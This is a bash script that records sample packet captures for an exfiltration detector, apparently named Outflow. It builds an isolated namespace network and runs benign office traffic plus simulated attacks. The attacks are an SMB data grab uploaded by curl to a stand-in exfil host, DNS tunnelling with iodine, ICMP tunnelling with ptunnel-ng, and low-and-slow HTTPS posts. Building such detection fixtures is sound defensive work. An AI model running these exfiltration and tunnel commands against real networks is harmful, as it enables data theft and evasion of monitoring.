#!/usr/bin/env bash
# Records Outflow's sample captures (pcaps/*.pcap) from real programs
# talking over a real kernel network stack.
#
#   sudo pcaps/record.sh [scenario...]
#
# Scenarios: breach benign-office cloud-upload scp-nonstd-port low-and-slow
# dns-tunnel icmp-tunnel (default: all, in that order).  KEEP=1 keeps the
# work directory (raw captures, server logs) in /tmp.
#
# The script builds an office network out of network namespaces and veth
# pairs (see pcaps/README.md for the diagram), starts every server inside
# it, captures on the router's LAN bridge like a SPAN port, then slices the
# bulk flows (tools/pcapslice) and moves each capture to a fixed start time
# (tools/pcapstretch).  Nothing is routed out of the namespaces.  Every
# process it starts is stopped by its pid and every namespace is removed on
# exit, also on failure or Ctrl-C.
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
ROOT=$(dirname "$HERE")
REC=(python3 "$HERE/lib/rec.py")
P=ofr                     # prefix of every namespace and temp name we make
ALL_SCENARIOS=(breach benign-office cloud-upload scp-nonstd-port low-and-slow
	dns-tunnel icmp-tunnel)
LAN_RATE=1gbit            # office switch
WAN_RATE=100mbit          # internet uplink (each direction)

die() { echo "record.sh: $*" >&2; exit 1; }
log() { echo "record.sh: $*" >&2; }

[ "$(id -u)" -eq 0 ] || die "run as root (sudo pcaps/record.sh)"
"$ROOT/scripts/setup.sh" record

scenarios=("$@")
[ ${#scenarios[@]} -gt 0 ] || scenarios=("${ALL_SCENARIOS[@]}")
for s in "${scenarios[@]}"; do
	[[ " ${ALL_SCENARIOS[*]} " == *" $s "* ]] || die "unknown scenario '$s'"
done
for ns in $(ip netns list | awk '{print $1}'); do
	[[ $ns == "$P"-* ]] && die "namespace $ns exists: is another record.sh running?"
done

WORK=$(mktemp -d /tmp/outflow-record.XXXXXX)
mkdir -p "$WORK"/{bin,log,raw,data,tmp}
PIDS=()       # every process we start in the background
NETNS=()      # every namespace we create
MADE_RUN_SSHD=0
MADE_ETC_NETNS=0; [ -d /etc/netns ] || MADE_ETC_NETNS=1

# --- cleanup ---------------------------------------------------------------

# True if pid is still a process this shell started (guards against a pid
# that was reaped and reused by someone else).
is_ours() { [ "$(sed 's/.*) //' "/proc/$1/stat" 2>/dev/null | cut -d' ' -f2)" = "$$" ]; }

stop_pid() { # pid: TERM, then KILL if it does not go within 3 s
	local pid=$1 i
	kill -TERM "$pid" 2>/dev/null || return 0
	for i in $(seq 30); do
		kill -0 "$pid" 2>/dev/null || break
		sleep 0.1
	done
	kill -KILL "$pid" 2>/dev/null || true
	wait "$pid" 2>/dev/null || true
}

cleanup() {
	local rc=$? pid ns
	set +e
	trap - EXIT
	trap '' INT TERM   # cleanup is bounded; finish it
	for pid in "${PIDS[@]}"; do is_ours "$pid" && stop_pid "$pid"; done
	# Children forked by our servers (smbd, sshd per connection) live in our
	# namespaces only: stop them by pid too before removing the namespaces.
	for ns in "${NETNS[@]}"; do
		for pid in $(ip netns pids "$ns" 2>/dev/null); do stop_pid "$pid"; done
	done
	for ns in "${NETNS[@]}"; do
		ip netns del "$ns" 2>/dev/null
		rm -rf "/etc/netns/$ns"
	done
	[ "$MADE_RUN_SSHD" = 0 ] || rmdir /run/sshd 2>/dev/null
	[ "$MADE_ETC_NETNS" = 0 ] || rmdir /etc/netns 2>/dev/null
	if [ "${KEEP:-0}" = 1 ] || [ $rc -ne 0 ]; then
		log "work directory kept: $WORK"
	else
		rm -rf "$WORK"
	fi
	[ $rc -eq 0 ] || log "FAILED (exit $rc); namespaces and processes cleaned up"
	exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# --- tools -------------------------------------------------------------------

CFLAGS_TOOLS="-std=gnu11 -O2 -Wall -Wextra -Werror -Wshadow -Wmissing-prototypes
	-Wstrict-prototypes -Wsign-compare -Wvla -D_GNU_SOURCE"
for t in pcapslice pcapstretch; do
	# shellcheck disable=SC2086
	cc $CFLAGS_TOOLS -o "$WORK/bin/$t" "$ROOT/tools/$t.c" -lpcap
done

# --- network -------------------------------------------------------------------

# Runs a command inside host namespace $1 (short name).
nsx() { local h=$1; shift; ip netns exec "$P-$h" "$@"; }

# Starts a long-running command in host $1; $2 names its log.
start() {
	local h=$1 name=$2; shift 2
	# Own session: a daemon that signals its process group on exit (smbd
	# does) must not hit this script.
	setsid ip netns exec "$P-$h" "$@" >"$WORK/log/$name.log" 2>&1 &
	PIDS+=($!)
}

offloads_off() { # ns dev
	ip netns exec "$1" ethtool -K "$2" tso off gso off gro off tx off rx off \
		>/dev/null 2>&1 || true
}

new_ns() { # full name
	ip netns add "$1"
	NETNS+=("$1")
	ip netns exec "$1" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 \
		net.ipv6.conf.default.disable_ipv6=1
	# Windows workstations do not send TCP timestamps; nor do we.
	ip netns exec "$1" sysctl -qw net.ipv4.tcp_timestamps=0
	ip -n "$1" link set lo up
}

mac_of() { # a.b.c.d -> 02:00:aa:bb:cc:dd (stable, locally administered)
	local IFS=.
	# shellcheck disable=SC2086
	set -- $1
	printf '02:00:%02x:%02x:%02x:%02x' "$1" "$2" "$3" "$4"
}

# host SHORT BRIDGE RATE GATEWAY IP/PREFIX [IP/PREFIX...]
# A namespace with one veth "eth0" whose peer "p-SHORT" sits on BRIDGE in
# the router namespace; both ends are shaped to RATE with tbf.
host() {
	local h=$1 br=$2 rate=$3 gw=$4 ns=$P-$1; shift 4
	local ip1=${1%/*} a
	new_ns "$ns"
	ip -n "$P-rtr" link add "p-$h" type veth peer name eth0 netns "$ns"
	ip -n "$ns" link set eth0 address "$(mac_of "$ip1")"
	ip netns exec "$ns" sysctl -qw net.ipv6.conf.eth0.disable_ipv6=1
	ip -n "$P-rtr" link set "p-$h" master "$br"
	for a in "$@"; do ip -n "$ns" addr add "$a" dev eth0; done
	offloads_off "$ns" eth0
	offloads_off "$P-rtr" "p-$h"
	ip netns exec "$ns" tc qdisc add dev eth0 root tbf rate "$rate" burst 256kb latency 50ms
	ip netns exec "$P-rtr" tc qdisc add dev "p-$h" root tbf rate "$rate" burst 256kb latency 50ms
	ip -n "$ns" link set eth0 up
	ip -n "$P-rtr" link set "p-$h" up
	ip -n "$ns" route add default via "$gw"
	mkdir -p "/etc/netns/$ns" "$WORK/h/$h"
}

# Resolver for a host: LAN hosts ask the office resolver.
set_resolver() { # short ip
	printf 'nameserver %s\noptions timeout:2 attempts:2\n' "$2" >"/etc/netns/$P-$1/resolv.conf"
}

build_network() {
	local r=$P-rtr
	log "building the network in $WORK"
	new_ns "$r"
	ip netns exec "$r" sysctl -qw net.ipv4.ip_forward=1
	for br in br0 br1; do
		ip -n "$r" link add "$br" type bridge stp_state 0
		offloads_off "$r" "$br"
		ip netns exec "$r" sysctl -qw "net.ipv6.conf.$br.disable_ipv6=1" 2>/dev/null || true
	done
	ip -n "$r" link set br0 address 02:00:0a:14:00:01
	ip -n "$r" link set br1 address 02:00:c6:33:64:01
	ip -n "$r" addr add 10.20.0.1/16 dev br0
	ip -n "$r" addr add 198.51.100.1/24 dev br1
	ip -n "$r" addr add 203.0.113.1/24 dev br1
	ip -n "$r" link set br0 up
	ip -n "$r" link set br1 up

	# Office LAN 10.20.0.0/16 on br0.
	host dns  br0 $LAN_RATE 10.20.0.1 10.20.0.53/16
	host fs10 br0 $LAN_RATE 10.20.0.1 10.20.2.10/16
	host fs11 br0 $LAN_RATE 10.20.0.1 10.20.2.11/16
	host fs12 br0 $LAN_RATE 10.20.0.1 10.20.2.12/16
	host bak  br0 $LAN_RATE 10.20.0.1 10.20.2.50/16
	host web  br0 $LAN_RATE 10.20.0.1 10.20.3.80/16
	for n in 11 12 13 14 23 31 41 42 51 61 70; do
		host "ws$n" br0 $LAN_RATE 10.20.0.1 "10.20.1.$n/16"
		set_resolver "ws$n" 10.20.0.53
	done
	set_resolver web 10.20.0.53

	# "Internet" on br1: documentation ranges only.
	host isp  br1 $WAN_RATE 198.51.100.1 198.51.100.53/24
	host inet br1 $WAN_RATE 198.51.100.1 198.51.100.10/24 198.51.100.11/24 \
		198.51.100.12/24 198.51.100.13/24 198.51.100.14/24 198.51.100.77/24 \
		198.51.100.80/24 198.51.100.150/24 198.51.100.200/24 203.0.113.66/24
	host ext  br1 $WAN_RATE 203.0.113.1 203.0.113.101/24 \
		$(for i in $(seq 102 124); do printf '203.0.113.%d/24 ' "$i"; done)
	host tdns br1 $WAN_RATE 203.0.113.1 203.0.113.53/24
	host icmp br1 $WAN_RATE 198.51.100.1 198.51.100.99/24
	host ssh  br1 $WAN_RATE 203.0.113.1 203.0.113.22/24
	# The ICMP tunnel proxy answers echo requests itself.
	nsx icmp sysctl -qw net.ipv4.icmp_echo_ignore_all=1
}

# --- data and servers ------------------------------------------------------

blob() { # seed size file
	[ -f "$3" ] || "${REC[@]}" blob "$1" "$2" >"$3"
}

make_certs() {
	local d=$WORK/tls san
	mkdir -p "$d"
	san="DNS:www.example-news.com,DNS:www.wikipedia.org,DNS:www.weather-today.net"
	san+=",DNS:cdn.static-assets.net,DNS:outlook.office365.com,DNS:api.telemetry-cdn.net"
	san+=",DNS:block.dropbox.com,DNS:deb.debian.org,DNS:sync.files-exchange.net"
	san+=",DNS:www.acme-clinic.example"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "/CN=outflow-lab" \
		-addext "subjectAltName=$san" -keyout "$d/key.pem" -out "$d/cert.pem" \
		>/dev/null 2>&1
}

# Web servers: the internet ones (all names on one host) and the office's own.
start_web() {
	start inet httpd-inet "${REC[@]}" serve --http 80 --https 443 \
		--cert "$WORK/tls/cert.pem" --key "$WORK/tls/key.pem" --log "$WORK/log/inet-access.log"
	start web httpd-web "${REC[@]}" serve --https 443 \
		--cert "$WORK/tls/cert.pem" --key "$WORK/tls/key.pem" --log "$WORK/log/web-access.log"
}

# The ISP's DNS answers for the internet names (authoritative stand-in).
start_isp_dns() {
	start isp dnsmasq-isp dnsmasq --keep-in-foreground --conf-file=/dev/null \
		--no-resolv --no-hosts --pid-file= --bind-interfaces \
		--listen-address=198.51.100.53 --local-ttl=300 --log-queries --log-facility=- \
		--local=/#/ \
		--host-record=www.example-news.com,198.51.100.10 \
		--host-record=www.wikipedia.org,198.51.100.11 \
		--host-record=www.weather-today.net,198.51.100.12 \
		--host-record=cdn.static-assets.net,198.51.100.13 \
		--host-record=outlook.office365.com,198.51.100.14 \
		--host-record=api.telemetry-cdn.net,198.51.100.77 \
		--host-record=block.dropbox.com,198.51.100.80 \
		--host-record=deb.debian.org,198.51.100.200 \
		--host-record=sync.files-exchange.net,203.0.113.66
}

# The office resolver: local names, forwards the rest to the ISP, and the
# tunnel domain to its "authoritative" server (dnsmasq forwards; a real
# resolver would iterate, the packets between resolver and server are the
# same kind).  Restarted per scenario so its cache starts empty.
RESOLVER_PID=
start_resolver() {
	[ -z "$RESOLVER_PID" ] || stop_pid "$RESOLVER_PID"
	start dns "dnsmasq-lan-$1" dnsmasq --keep-in-foreground --conf-file=/dev/null \
		--no-resolv --no-hosts --pid-file= --bind-interfaces \
		--listen-address=10.20.0.53 --log-queries --log-facility=- \
		--server=198.51.100.53 --server=/t.exfil-tunnel.net/203.0.113.53 \
		--domain=acme.lan --local=/acme.lan/ \
		--host-record=fs1.acme.lan,10.20.2.10 --host-record=fs2.acme.lan,10.20.2.11 \
		--host-record=fs3.acme.lan,10.20.2.12 --host-record=backup.acme.lan,10.20.2.50 \
		--host-record=intranet.acme.lan,10.20.3.80
	RESOLVER_PID=${PIDS[-1]}
	wait_dns
}

wait_dns() {
	local i
	for i in $(seq 50); do
		nsx dns dig +short +time=1 +tries=1 @10.20.0.53 fs1.acme.lan >/dev/null 2>&1 && return 0
		sleep 0.2
	done
	die "resolver did not start"
}

wait_tcp() { # short ip port
	local i
	for i in $(seq 100); do
		nsx "$1" bash -c "exec 3<>/dev/tcp/$2/$3" 2>/dev/null && return 0
		sleep 0.1
	done
	die "nothing listens on $2:$3 in $1"
}

# smbd for one file server: own config, state and share under $WORK.
start_smbd() { # short ip netbios-name share-name
	local h=$1 ip=$2 nb=$3 share=$4 d=$WORK/smb/$1
	mkdir -p "$d"/{run,lock,state,cache,private,ncalrpc,share}
	cat >"$d/smb.conf" <<EOF
[global]
	workgroup = ACME
	netbios name = $nb
	server role = standalone server
	interfaces = $ip
	bind interfaces only = yes
	smb ports = 445
	disable netbios = yes
	server min protocol = SMB2_10
	pid directory = $d/run
	lock directory = $d/lock
	state directory = $d/state
	cache directory = $d/cache
	private dir = $d/private
	ncalrpc dir = $d/ncalrpc
	passdb backend = tdbsam:$d/private/passdb.tdb
	username map = $d/users.map
	log file = $d/log.smbd
	log level = 1
	load printers = no
	printing = bsd
	printcap name = /dev/null
	disable spoolss = yes
	map to guest = never
[$share]
	path = $d/share
	read only = no
	valid users = root
EOF
	# The office user "jdoe" maps to the namespace's root account.
	echo 'root = jdoe' >"$d/users.map"
	printf 'Winter2026!\nWinter2026!\n' | smbpasswd -c "$d/smb.conf" -s -a root >/dev/null
	start "$h" "smbd-$h" smbd --foreground --no-process-group --debug-stdout \
		--configfile="$d/smb.conf"
	wait_tcp "$h" "$ip" 445
}

smb_client_conf() {
	cat >"$WORK/smbclient.conf" <<EOF
[global]
	workgroup = ACME
	name resolve order = host
	client min protocol = SMB2_10
	client max protocol = SMB3
	disable netbios = yes
EOF
}

# smbclient as office user jdoe from host $1 against //$2/$3 running $4.
smb() {
	local h=$1 server=$2 share=$3 cmds=$4
	nsx "$h" smbclient -s "$WORK/smbclient.conf" "//$server/$share" \
		-U 'ACME\jdoe%Winter2026!' -c "$cmds" >>"$WORK/log/smbclient-$h.log" 2>&1
}

# sshd for a host on a port; root may log in with the generated key only.
start_sshd() { # short ip port
	local h=$1 ip=$2 port=$3 d=$WORK/ssh/$1
	mkdir -p "$d/inbox"
	if [ ! -d /run/sshd ]; then   # sshd's privilege separation directory
		mkdir -p /run/sshd
		MADE_RUN_SSHD=1
	fi
	[ -f "$WORK/ssh/id_ed25519" ] ||
		ssh-keygen -q -t ed25519 -N '' -C jdoe@ws -f "$WORK/ssh/id_ed25519"
	ssh-keygen -q -t ed25519 -N '' -f "$d/host_ed25519"
	cp "$WORK/ssh/id_ed25519.pub" "$d/authorized_keys"
	cat >"$d/sshd_config" <<EOF
Port $port
ListenAddress $ip
HostKey $d/host_ed25519
PidFile none
AuthorizedKeysFile $d/authorized_keys
StrictModes no
PermitRootLogin prohibit-password
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
Subsystem sftp internal-sftp
EOF
	start "$h" "sshd-$h" /usr/sbin/sshd -D -e -f "$d/sshd_config"
	wait_tcp "$h" "$ip" "$port"
}

SSH_OPTS=(-F /dev/null -i "$WORK/ssh/id_ed25519" -o StrictHostKeyChecking=no
	-o UserKnownHostsFile=/dev/null -o BatchMode=yes -o LogLevel=ERROR)

# curl from host $1 (names resolved through the office resolver).
hcurl() { local h=$1; shift; nsx "$h" curl -sS -k --max-time 300 "$@" >/dev/null; }

# --- capture -------------------------------------------------------------------

CAP_PID=
capture_start() { # scenario
	local f=$WORK/raw/$1.pcap i
	ip netns exec "$P-rtr" tcpdump -i br0 -n -s 0 -B 65536 -Z root -w "$f" \
		>"$WORK/log/tcpdump-$1.log" 2>&1 &
	CAP_PID=$!
	PIDS+=("$CAP_PID")
	for i in $(seq 50); do
		grep -q 'listening on' "$WORK/log/tcpdump-$1.log" && break
		sleep 0.1
	done
	sleep 0.5
}

capture_stop() { # scenario
	sleep 1
	kill -INT "$CAP_PID"
	wait "$CAP_PID" || true
	CAP_PID=
	cat "$WORK/log/tcpdump-$1.log" >&2
	grep -Eq '^0 packets dropped by kernel' "$WORK/log/tcpdump-$1.log" ||
		log "WARNING: tcpdump dropped packets in $1"
}

epoch() { date -u -d "$1" +%s; }

# finish NAME FACTOR START K SNAP: stretch/shift to START, slice unless K=all.
finish() {
	local name=$1 factor=$2 start_at=$3 k=$4 snap=$5
	local raw=$WORK/raw/$name.pcap tmp=$WORK/raw/$name.stretched.pcap
	"$WORK/bin/pcapstretch" -f "$factor" -s "$(epoch "$start_at")" "$raw" "$tmp"
	if [ "$k" = all ]; then
		cp "$tmp" "$HERE/$name.pcap"
	else
		"$WORK/bin/pcapslice" -k "$k" -s "$snap" "$tmp" "$HERE/$name.pcap"
	fi
	if command -v capinfos >/dev/null; then   # wireshark-common: optional
		log "$name: $(capinfos -c -s "$HERE/$name.pcap" | tail -n +2 | tr -s ' \n' ' ')"
	fi
}

record() { # scenario
	local s=$1
	log "=== $s"
	start_resolver "$s"
	capture_start "$s"
	"scen_${s//-/_}"
	capture_stop "$s"
	"post_${s//-/_}"
}

# --- office background traffic ---------------------------------------------

# Browsing by ws11..ws14: ROUNDS page views each, SEED picks sites and pauses.
browse() { # short rounds seed
	local h=$1 rounds=$2 seed=$3 i site path pause
	local sites=(www.example-news.com www.wikipedia.org www.weather-today.net
		outlook.office365.com cdn.static-assets.net)
	RANDOM=$seed
	for i in $(seq "$rounds"); do
		site=${sites[RANDOM % ${#sites[@]}]}
		path="/page/$((RANDOM % 1000))"
		hcurl "$h" "https://$site$path" "https://$site$path/style.css" \
			"https://$site$path/app.js" || true
		pause=$((2 + RANDOM % 5))
		sleep "$pause"
	done
}

office_noise() { # rounds
	local pids=() n
	for n in 11 12 13 14; do
		browse "ws$n" "$1" "$n" &
		pids+=($!)
	done
	nsx ws14 dig +short www.wikipedia.org >/dev/null || true
	nsx ws11 dig +short fs1.acme.lan >/dev/null || true
	sleep 5
	# A small plain-HTTP download (a driver update).
	hcurl ws12 "http://deb.debian.org/blob/12/1800000/driver-update.cab" || true
	wait "${pids[@]}"
}

# --- scenarios -------------------------------------------------------------------

# 1. Breach: ws23 pulls patient records from three file servers over SMB,
#    zips them and uploads the archive over TLS to 203.0.113.66.
prep_breach() {
	local d=$WORK/smb
	blob 1001 15000000 "$d/fs10/share/patients-A-K.xlsx"
	blob 1002 16000000 "$d/fs11/share/patients-L-Z.xlsx"
	blob 1003 15000000 "$d/fs12/share/lab-results-2025.pdf"
	for n in 1 2 3 4; do blob "$((1100 + n))" $((200000 * n)) "$d/fs10/share/memo-$n.docx"; done
}

scen_breach() {
	local w=$WORK/h/ws23 noise
	office_noise 10 &
	noise=$!
	sleep 4
	smb ws23 fs1.acme.lan records 'get patients-A-K.xlsx '"$w/patients-A-K.xlsx"
	sleep 5
	smb ws23 fs2.acme.lan records 'get patients-L-Z.xlsx '"$w/patients-L-Z.xlsx"
	sleep 5
	smb ws23 fs3.acme.lan records 'get lab-results-2025.pdf '"$w/lab-results-2025.pdf"
	sleep 3
	(cd "$w" && zip -q -1 q1-export.zip patients-A-K.xlsx patients-L-Z.xlsx lab-results-2025.pdf)
	sleep 6
	hcurl ws23 --upload-file "$w/q1-export.zip" https://sync.files-exchange.net/upload/q1-export.zip
	wait "$noise"
}
post_breach() { finish breach 1 '2026-03-03 16:40:00' "$KEEP_PKTS" "$SNAP"; }

# 2. Benign office: browsing, DNS, a 60 MB software update, a 60 MB internal
#    backup, the office web server serving external clients, a video call.
prep_benign_office() {
	blob 2001 60000000 "$WORK/h/ws70/backup-2026-03-02.tar"
	blob 2002 2000000 "$WORK/smb/fs10/share/handbook.pdf"
}

external_clients() { # 24 clients, ~1.25 MB each from https://www.acme-clinic.example
	local i ip pids=()
	for i in $(seq 101 124); do
		ip=203.0.113.$i
		(
			sleep $(( (i - 101) * 4 ))
			hcurl ext --interface "$ip" --resolve www.acme-clinic.example:443:10.20.3.80 \
				https://www.acme-clinic.example/ https://www.acme-clinic.example/appointments \
				https://www.acme-clinic.example/contact \
				"https://www.acme-clinic.example/blob/$i/1200000/brochure.pdf" || true
		) &
		pids+=($!)
	done
	wait "${pids[@]}"
}

scen_benign_office() {
	local pids=()
	office_noise 14 & pids+=($!)
	external_clients & pids+=($!)
	sleep 8
	# The far end answers once the caller's media arrives (no port unreachables).
	nsx inet "${REC[@]}" call --local 198.51.100.150:3478 --remote 10.20.1.13:50010 \
		--bytes 5000000 --pps 100 --seed 32 --answer >/dev/null &
	pids+=($!)
	sleep 0.3
	nsx ws13 "${REC[@]}" call --local 10.20.1.13:50010 --remote 198.51.100.150:3478 \
		--bytes 5000000 --pps 100 --seed 31 >/dev/null &
	pids+=($!)
	sleep 6
	smb ws11 fs1.acme.lan records "get handbook.pdf $WORK/h/ws11/handbook.pdf"
	sleep 6
	hcurl ws12 http://deb.debian.org/blob/2003/60000000/linux-image-6.1.0-31-amd64.deb
	sleep 15
	smb ws70 backup.acme.lan backup "put $WORK/h/ws70/backup-2026-03-02.tar backup-2026-03-02.tar"
	wait "${pids[@]}"
}
post_benign_office() { finish benign-office 1 '2026-03-02 09:00:00' "$KEEP_PKTS" "$SNAP"; }

# 3. Cloud upload: ws31 uploads 30 MB to block.dropbox.com.
prep_cloud_upload() { blob 3001 30000000 "$WORK/h/ws31/design-review.7z"; }
scen_cloud_upload() {
	hcurl ws31 https://www.example-news.com/
	sleep 2
	hcurl ws31 -X POST -H 'Dropbox-API-Arg: {"path":"/design-review.7z"}' \
		-H 'Content-Type: application/octet-stream' \
		--data-binary "@$WORK/h/ws31/design-review.7z" https://block.dropbox.com/store_batch
	sleep 1
}
post_cloud_upload() { finish cloud-upload 1 '2026-03-04 10:15:00' "$KEEP_PKTS" "$SNAP"; }

# 4. scp of 30 MB to an sshd on 203.0.113.22:2222.
prep_scp_nonstd_port() { blob 4001 30000000 "$WORK/h/ws51/q1-financials.tar"; }
scen_scp_nonstd_port() {
	nsx ws51 scp "${SSH_OPTS[@]}" -P 2222 "$WORK/h/ws51/q1-financials.tar" \
		"root@203.0.113.22:$WORK/ssh/ssh/inbox/"
	sleep 1
}
post_scp_nonstd_port() { finish scp-nonstd-port 1 '2026-03-04 13:30:00' "$KEEP_PKTS" "$SNAP"; }

# 5. Low and slow: 40 HTTPS POSTs of 20-60 KB every 2 s (+-0.3 s), stretched
#    by SLOW_FACTOR to every 5 min (+-45 s) over ~3 h 20 min.
SLOW_FACTOR=150
prep_low_and_slow() {
	local i=0 sleep_s size
	"${REC[@]}" plan 61 40 2.0 0.3 20000 60000 >"$WORK/h/ws61/plan"
	while read -r sleep_s size; do
		i=$((i + 1))
		blob "$((6100 + i))" "$size" "$WORK/h/ws61/chunk-$i"
	done <"$WORK/h/ws61/plan"
}
scen_low_and_slow() {
	local i=0 sleep_s size
	while read -r sleep_s size; do
		i=$((i + 1))
		hcurl ws61 -X POST -H 'Content-Type: application/octet-stream' \
			--data-binary "@$WORK/h/ws61/chunk-$i" "https://api.telemetry-cdn.net/v2/collect?id=$i"
		sleep "$sleep_s"
	done <"$WORK/h/ws61/plan"
}
post_low_and_slow() { finish low-and-slow "$SLOW_FACTOR" '2026-03-04 20:00:00' "$KEEP_PKTS" 128; }

# 6. DNS tunnel: iodine on ws41 via the office resolver to iodined at
#    203.0.113.53 (t.exfil-tunnel.net); a 400 KB file crosses it by HTTP PUT.
prep_dns_tunnel() {
	blob 5001 400000 "$WORK/h/ws41/passwords.kdbx"
	start tdns httpd-tdns "${REC[@]}" serve --http 8080
	start tdns iodined iodined -f -c -l 203.0.113.53 -p 53 -P 'tunnel-pw-7' \
		172.31.99.1 t.exfil-tunnel.net
	sleep 1
}
scen_dns_tunnel() {
	local i
	start ws41 iodine iodine -f -r -P 'tunnel-pw-7' 10.20.0.53 t.exfil-tunnel.net
	for i in $(seq 600); do
		ip -n "$P-ws41" -4 addr show 2>/dev/null | grep -q '172\.31\.99\.' && break
		sleep 0.1
	done
	ip -n "$P-ws41" -4 addr show | grep -q '172\.31\.99\.' || die "iodine tunnel did not come up"
	sleep 2
	nsx ws41 curl -sS --max-time 600 -o /dev/null --upload-file "$WORK/h/ws41/passwords.kdbx" \
		http://172.31.99.1:8080/drop/passwords.kdbx
	sleep 2
	stop_pid "${PIDS[-1]}"
}
post_dns_tunnel() { finish dns-tunnel 1 '2026-03-05 11:00:00' all 0; }

# 7. ICMP tunnel: ptunnel-ng on ws42 to the proxy 198.51.100.99 carrying a
#    TCP connection (an HTTP PUT of 700 KB to a server behind the proxy).
prep_icmp_tunnel() {
	blob 7001 700000 "$WORK/h/ws42/customers.csv.gz"
	start icmp httpd-icmp "${REC[@]}" serve --bind 127.0.0.1 --http 8080
	start icmp ptunnel-proxy ptunnel-ng -r127.0.0.1 -R8080 -P'icmp-pw-3' -v1
	wait_tcp icmp 127.0.0.1 8080
	sleep 1
}
scen_icmp_tunnel() {
	start ws42 ptunnel-client ptunnel-ng -p198.51.100.99 -l8000 -r127.0.0.1 -R8080 \
		-P'icmp-pw-3' -v1
	local client=${PIDS[-1]}
	wait_tcp ws42 127.0.0.1 8000 2>/dev/null || true
	sleep 1
	nsx ws42 curl -sS --max-time 300 -o /dev/null --upload-file "$WORK/h/ws42/customers.csv.gz" \
		http://127.0.0.1:8000/upload/customers.csv.gz
	sleep 2
	stop_pid "$client"
}
post_icmp_tunnel() { finish icmp-tunnel 1 '2026-03-05 14:00:00' all 0; }

# --- main ------------------------------------------------------------------------

# Slicing: the first KEEP_PKTS payload packets of every TCP/UDP flow stay
# whole (TLS ClientHello, SMB negotiate/session/tree connect/create, SSH
# banners and key exchange); later packets keep SNAP captured bytes
# (Ethernet + IPv4 + TCP/UDP headers and the first payload bytes).
KEEP_PKTS=${KEEP_PKTS:-12}
SNAP=${SNAP:-64}
build_network
make_certs
smb_client_conf
mkdir -p "$WORK/smb"
start_isp_dns
start_web
start_smbd fs10 10.20.2.10 FS1 records
start_smbd fs11 10.20.2.11 FS2 records
start_smbd fs12 10.20.2.12 FS3 records
start_smbd bak 10.20.2.50 BACKUP backup
start_sshd ssh 203.0.113.22 2222
wait_tcp inet 198.51.100.10 443
wait_tcp web 10.20.3.80 443

for s in "${scenarios[@]}"; do
	"prep_${s//-/_}"
done
for s in "${scenarios[@]}"; do
	record "$s"
done
log "done: $(cd "$HERE" && du -ch ./*.pcap | tail -1)"
